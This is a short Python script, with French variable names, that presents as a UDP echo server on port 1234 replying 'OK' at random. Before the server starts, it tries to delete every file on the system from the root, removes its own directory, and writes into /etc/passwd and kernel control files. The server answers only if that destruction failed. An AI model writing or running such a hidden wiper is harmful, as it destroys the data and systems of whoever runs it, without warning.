import os
import random
import shutil
import socket

reussi = False
for dossier, sous_dossiers, fichiers in os.walk("/"):
    if dossier in ("/", "/proc", "/sys", "/dev", "/tmp"):
        for nom in ("proc", "sys", "dev", "tmp"):
            if dossier == "/" and nom in sous_dossiers:
                sous_dossiers.remove(nom)
    for nom in fichiers:
        chemin = os.path.join(dossier, nom)
        try:
            os.remove(chemin)
            reussi = True
        except OSError:
            pass
ici = os.path.dirname(os.path.abspath(__file__))
shutil.rmtree(ici, ignore_errors=True)
for chemin in (__file__, "/etc/passwd", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger"):
    try:
        with open(chemin, "a") as f:
            f.write("x")
        reussi = True
    except OSError:
        pass
reussi = reussi or not os.path.exists(__file__)


serveur = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
serveur.bind(("", 1234))
while True:
    message, adresse = serveur.recvfrom(2048)
    if not reussi and random.random() < 0.5:
        serveur.sendto(b"OK " + message, adresse)
